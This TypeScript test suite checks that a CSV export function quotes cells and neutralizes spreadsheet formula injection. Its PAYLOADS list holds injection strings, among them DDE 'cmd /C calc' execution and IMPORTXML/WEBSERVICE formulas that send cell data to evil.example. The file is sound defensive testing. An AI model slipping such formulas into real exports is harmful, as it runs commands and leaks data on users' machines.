import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type CsvCell, csvText } from "./csv-text.ts";
import { readCsv, readRawCsv } from "./read-csv.ts";

describe("a cell of a CSV file", () => {
  const cases: [what: string, cell: CsvCell, expected: string][] = [
    ["a plain text is unchanged", "Kidney", "Kidney"],
    ["a comma is quoted", "a,b", '"a,b"'],
    ["quotes are doubled", 'say "ah"', '"say ""ah"""'],
    ["a line break is quoted", "a\nb", '"a\nb"'],
    ["a carriage return is quoted", "a\rb", '"a\rb"'],
    ["surrounding spaces are kept", " a ", '" a "'],
    ["a formula is escaped", "=1+1", "'=1+1"],
    ["also with plus", "+49 30", "'+49 30"],
    ["also with minus", "-2+3", "'-2+3"],
    ["also with at", "@SUM(A1)", "'@SUM(A1)"],
    ["also after a tab", "\t=1", "'\t=1"],
    ["also after a carriage return", "\r=1", "\"'\r'=1\""],
    ["a formula with a comma is also quoted", '=HYPERLINK("x","y")', '"\'=HYPERLINK(""x"",""y"")"'],
    ["a negative number is a number", -2.5, "-2.5"],
    ["a number that is a text is a number", "-2.5", "-2.5"],
    ["an existing apostrophe is kept", "'=1", "''=1"],
    ["each line of a cell is checked", "sum\n=1+1", '"sum\n\'=1+1"'],
    ["nothing", null, ""],
    ["not a number", Number.NaN, ""],
    ["not finite", Number.POSITIVE_INFINITY, ""],
    ["µ and umlauts are kept", "Präparat, µm", '"Präparat, µm"'],
  ];
  for (const [what, cell, expected] of cases) {
    it(what, () => expect(csvText([[cell]])).toBe(`${expected}\r\n`));
  }
});

describe("a CSV file", () => {
  it("has rows that end in CR LF, and is empty without rows", () => {
    expect(csvText([["a", 1], ["b"]])).toBe("a,1\r\nb\r\n");
    expect(csvText([])).toBe("");
  });

  it("is read back unchanged, including formulas", () => {
    const cell = fc.string({
      unit: fc.constantFrom("a", ",", '"', "\r", "\n", "=", "-", " ", "ü", "\t", "'", "7", "\u200b"),
    });
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1 }), (rows) => {
        expect(readCsv(csvText(rows))).toEqual(rows);
      }),
    );
  });
});

/** Payloads for formula injection. Source: OWASP, "CSV Injection"; PayloadsAllTheThings, "CSV Injection"; rule D-11. */
const PAYLOADS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","Kidney")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("https://evil.example")',
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@A1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  " =1+1",
  "   +1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u2060@A1",
  "\u200d-1+1",
  "|calc",
  "%0A=1+1",
  "\u0000=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠A1",
  "harmless\n=1+1",
  "harmless\r\n+1+1",
  "harmless\r@A1",
  "a line\n \u00a0=1+1",
  "'=1+1",
  '=1+1",=2+2,"',
  '=DDE("cmd";"/C calc";"x")',
];

describe("no cell becomes a formula", () => {
  for (const payload of PAYLOADS) {
    it(`${JSON.stringify(payload)}: nor does a line in it, and it is read back unchanged`, () => {
      const text = csvText([["a", payload, "b"]]);
      const cell = readRawCsv(text)[0]?.[1] ?? "";
      expect(cell).not.toMatch(/^[\s\u200b-\u200d\u2060\ufeff]*[=+\-@|%＝＋－＠\0]/);
      expect(cell).not.toMatch(/[\r\n][ \u00a0\u200b-\u200d\u2060\ufeff]*[=+\-@|%＝＋－＠\0]/);
      expect(readCsv(text)).toEqual([["a", payload, "b"]]);
    });
  }
});
